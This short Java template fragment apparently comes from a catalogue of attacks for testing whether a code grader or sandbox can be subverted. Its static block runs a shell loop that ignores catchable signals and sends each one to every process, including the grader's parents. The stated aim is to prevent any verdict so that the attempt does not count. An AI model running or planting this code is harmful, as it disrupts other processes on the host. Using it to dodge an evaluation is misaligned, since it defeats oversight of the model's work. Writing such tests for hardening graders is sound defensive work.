// ---
// tries: Sends every signal but SIGKILL and SIGSTOP to all processes, from a shell.
// place: before
// gain: no verdict, so that the attempt may not count
// helps: be-pid-1
// ---
  static {
    Attack.start("sh", "-c", "for s in HUP INT QUIT ILL TRAP ABRT BUS FPE USR1 SEGV USR2 PIPE ALRM TERM XCPU XFSZ VTALRM PROF IO PWR SYS;"
        + " do trap '' $s 2>/dev/null; kill -$s -1 " + Attack.parents().stream().map(String::valueOf)
            .collect(java.util.stream.Collectors.joining(" ")) + "; done");
    Attack.sleep(1000);
  }
@BODY@
